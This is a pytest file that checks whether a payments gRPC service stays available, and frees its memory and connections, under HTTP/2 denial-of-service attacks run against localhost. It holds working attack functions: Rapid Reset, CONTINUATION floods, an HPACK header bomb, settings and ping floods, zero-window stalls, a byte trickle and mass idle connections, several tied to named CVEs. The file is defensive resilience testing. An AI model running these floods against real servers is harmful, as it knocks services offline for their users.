"""Attacks on HTTP/2 servers: the service still serves other clients, and afterwards its resources are released."""

import resource
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path

import grpc
import pytest
from payments_client.v1 import payments_pb2 as pb

from server.config.grpc import Engine
from tests.support.drivers import http2_peer
from tests.support.drivers.calls import CallFailed, GrpcDriver
from tests.support.drivers.http2_peer import Http2Peer, frame, request_headers
from tests.support.drivers.requests import charge
from tests.support.running_service import RunningService

StartService = Callable[..., RunningService]
Attack = Callable[[int, threading.Event], None]

_LIST_PATH = "/payments.v1.PaymentService/ListPayments"
_LIST = pb.ListPaymentsRequest(page_size=1000).SerializeToString()
_STREAMS = range(1, 2 * 20_000, 2)
_STREAMS_PER_CONNECTION = 200
_CANCEL = (8).to_bytes(4, "big")
_MAX_GROWTH_KIB = 400 * 1024
_IDLE_CONNECTIONS = 10_000
_RESERVED_FILES = 500
_RECOVERY_SECONDS = 30


@pytest.fixture(params=list(Engine))
def running(request: pytest.FixtureRequest, start_service: StartService) -> RunningService:
    """A service with long database timeouts, because the attacks slow the whole machine down."""
    timeouts = dict.fromkeys(("MYSQL_ACQUIRE_TIMEOUT_SECONDS", "MYSQL_CONNECT_TIMEOUT_SECONDS"), "60")
    return start_service(GRPC_ENGINE=request.param, **timeouts)


def memory_kib(service: RunningService) -> int:
    """Return the resident memory of the server."""
    status = Path(f"/proc/{service.process_id}/status").read_text()
    return int(next(line for line in status.splitlines() if line.startswith("VmRSS")).split()[1])


def open_files(service: RunningService) -> int:
    """Return the number of open files and connections of the server."""
    return len(list(Path(f"/proc/{service.process_id}/fd").iterdir()))


def charge_some(service: RunningService, count: int = 5) -> None:
    """Make charges as a well-behaved client on its own connection, which retries when the service is overloaded."""
    with grpc.insecure_channel(service.target) as channel:
        api = GrpcDriver(channel)
        done, deadline = 0, time.monotonic() + _RECOVERY_SECONDS
        while done < count:
            try:
                assert api.charge(charge()).payment.payment_id
                done += 1
            except CallFailed as failed:
                if failed.reason != "OVERLOADED" or time.monotonic() > deadline:
                    raise
                time.sleep(0.2)


@contextmanager
def no_lasting_harm(service: RunningService) -> Iterator[None]:
    """Check that other clients are served after the context, and that memory and files are released."""
    charge_some(service)
    files, memory = open_files(service), memory_kib(service)
    yield
    started = time.monotonic()
    charge_some(service)
    print(  # noqa: T201 - measurements for the log; the assertions below have a wide margin
        f"{service.engine}: {memory} to {memory_kib(service)} KiB, {files} to {open_files(service)} files, "
        f"{time.monotonic() - started:.2f} s for charges of other clients afterwards"
    )
    # The server first has to process the data in its buffers. How long that takes depends on the machine.
    deadline = time.monotonic() + _RECOVERY_SECONDS
    while open_files(service) > files + 20 or memory_kib(service) - memory > _MAX_GROWTH_KIB:
        growth = f"{memory} to {memory_kib(service)} KiB, {files} to {open_files(service)} files"
        assert time.monotonic() < deadline, growth
        time.sleep(0.2)


def rapid_reset(port: int, stop: threading.Event) -> None:
    """Start requests and cancel them immediately, which costs the server more than the client (CVE-2023-44487)."""
    with Http2Peer(port, timeout_seconds=5) as peer:
        headers = request_headers(_LIST_PATH)
        for stream in _STREAMS:
            headers_frame = frame(http2_peer.HEADERS, headers, flags=http2_peer.END_HEADERS, stream=stream)
            data_frame = frame(http2_peer.DATA, b"\0\0\0\0\0", flags=http2_peer.END_STREAM, stream=stream)
            peer.send_raw(headers_frame + data_frame + frame(http2_peer.RST_STREAM, _CANCEL, stream=stream))
            if stop.is_set():
                return


def reset_before_the_body(port: int, stop: threading.Event) -> None:
    """Cancel requests after their headers."""
    with Http2Peer(port, timeout_seconds=5) as peer:
        headers = request_headers(_LIST_PATH)
        for stream in _STREAMS:
            headers_frame = frame(http2_peer.HEADERS, headers, flags=http2_peer.END_HEADERS, stream=stream)
            peer.send_raw(headers_frame + frame(http2_peer.RST_STREAM, _CANCEL, stream=stream))
            if stop.is_set():
                return


def continuation_flood(port: int, stop: threading.Event) -> None:
    """Send 32 MB of headers that never end (CVE-2024-27316)."""
    literal = b"\0\x7f\0" + b"n" * 127 + b"\0"
    with Http2Peer(port, timeout_seconds=5) as peer:
        peer.send(http2_peer.HEADERS, request_headers(_LIST_PATH), stream=1)
        for _ in range(2_000):
            peer.send(http2_peer.CONTINUATION, (literal * 128)[:16_000], stream=1)
            if stop.is_set():
                return
        stop.wait()


def empty_continuation_flood(port: int, stop: threading.Event) -> None:
    """Send empty CONTINUATION frames, and never end the headers."""
    with Http2Peer(port, timeout_seconds=5) as peer:
        peer.send(http2_peer.HEADERS, request_headers(_LIST_PATH), stream=1)
        while not stop.is_set():
            peer.send_raw(frame(http2_peer.CONTINUATION, stream=1) * 1000)


def header_bomb(port: int, stop: threading.Event) -> None:
    """Repeat a large header from the HPACK table. Each repetition costs the client one byte (CVE-2016-6581)."""
    size = 3_800 - 127  # RFC 7541, section 5.1, encodes numbers above 126 this way
    stored = b"\x40\x01x\x7f" + bytes([0x80 | size & 0x7F, size >> 7]) + b"v" * 3_800
    with Http2Peer(port, timeout_seconds=5) as peer:
        for stream in range(1, 200, 2):
            block = request_headers(_LIST_PATH) + stored + b"\xbe" * 12_000
            peer.send(http2_peer.HEADERS, block, flags=http2_peer.END_HEADERS, stream=stream)
            if stop.is_set():
                return


def settings_flood(port: int, stop: threading.Event) -> None:
    """Send settings and never read the acknowledgments (CVE-2019-9515)."""
    _flood(port, stop, frame(http2_peer.SETTINGS, b"\0\4\0\0\xff\xff"))


def ping_flood(port: int, stop: threading.Event) -> None:
    """Send pings and never read the acknowledgments (CVE-2019-9512)."""
    _flood(port, stop, frame(http2_peer.PING, b"12345678"))


def _flood(port: int, stop: threading.Event, frame_bytes: bytes) -> None:
    with Http2Peer(port, timeout_seconds=5) as peer:
        while not stop.is_set():
            peer.send_raw(frame_bytes * 1000)


def half_requests(port: int, stop: threading.Event) -> None:
    """Start many requests on a connection, and finish none."""
    with Http2Peer(port) as peer:
        for stream in range(1, 2 * _STREAMS_PER_CONNECTION, 2):
            peer.send(http2_peer.HEADERS, request_headers(_LIST_PATH), flags=http2_peer.END_HEADERS, stream=stream)
            peer.send(http2_peer.DATA, b"\0\0\0\1\0" + b"x" * 10, stream=stream)
        stop.wait()


def zero_window(port: int, stop: threading.Event) -> None:
    """Request long lists without opening a window for the responses (CVE-2019-9517)."""
    with Http2Peer(port, {http2_peer.INITIAL_WINDOW_SIZE: 0}) as peer:
        for stream in range(1, 2 * _STREAMS_PER_CONNECTION, 2):
            peer.request(_LIST_PATH, _LIST, stream=stream)
        stop.wait()


def trickle(port: int, stop: threading.Event) -> None:
    """Send the HTTP/2 preface one byte at a time."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        for byte in http2_peer.PREFACE[:-1]:
            connection.sendall(bytes([byte]))
            if stop.wait(0.2):
                return


ATTACKS: list[tuple[Attack, int]] = [
    (rapid_reset, 4),
    (reset_before_the_body, 4),
    (continuation_flood, 4),
    (empty_continuation_flood, 4),
    (header_bomb, 4),
    (settings_flood, 4),
    (ping_flood, 4),
    (half_requests, 10),
    (zero_window, 10),
    (trickle, 100),
]
"""Each attack, and its number of concurrent connections."""


@pytest.mark.parametrize(("attack", "connections"), ATTACKS, ids=[attack.__name__ for attack, _ in ATTACKS])
def test_other_clients_are_served_during_an_attack(running: RunningService, attack: Attack, connections: int) -> None:
    stop = threading.Event()

    def run_attack() -> None:
        with suppress(OSError):  # the server should close some of these connections
            attack(running.port, stop)

    with no_lasting_harm(running):
        threads = [threading.Thread(target=run_attack) for _ in range(connections)]
        for thread in threads:
            thread.start()
        try:
            charge_some(running)
            time.sleep(1)
            charge_some(running)
        finally:
            stop.set()
            for thread in threads:
                thread.join()


@pytest.fixture
def max_connections() -> Iterator[int]:
    """Raise this process's limit on open files, and return the number of connections that a test can open."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    yield min(_IDLE_CONNECTIONS, hard - _RESERVED_FILES) if hard != resource.RLIM_INFINITY else _IDLE_CONNECTIONS
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


@pytest.mark.parametrize("first_bytes", [b"", http2_peer.PREFACE + frame(http2_peer.SETTINGS)], ids=["silent", "idle"])
def test_other_clients_are_served_during_ten_thousand_idle_connections(
    running: RunningService, max_connections: int, first_bytes: bytes
) -> None:
    with no_lasting_harm(running), ExitStack() as stack:
        for _ in range(max_connections):
            connection = stack.enter_context(socket.create_connection(("127.0.0.1", running.port), timeout=30))
            connection.sendall(first_bytes)
        charge_some(running)


def test_headers_above_the_limit_leak_no_memory(running: RunningService, request: pytest.FixtureRequest) -> None:
    if running.engine is Engine.GRPCIO:
        reason = "grpcio 1.85.1 leaks about 25 KiB for each call whose headers exceed the limit"
        request.applymarker(pytest.mark.xfail(strict=True, reason=reason))
    memories = []
    for _ in range(3):
        for _ in range(40):
            with suppress(OSError):
                header_bomb(running.port, threading.Event())
        charge_some(running)
        time.sleep(1)
        memories.append(memory_kib(running))
    assert memories[-1] - memories[0] < 40 * 1024
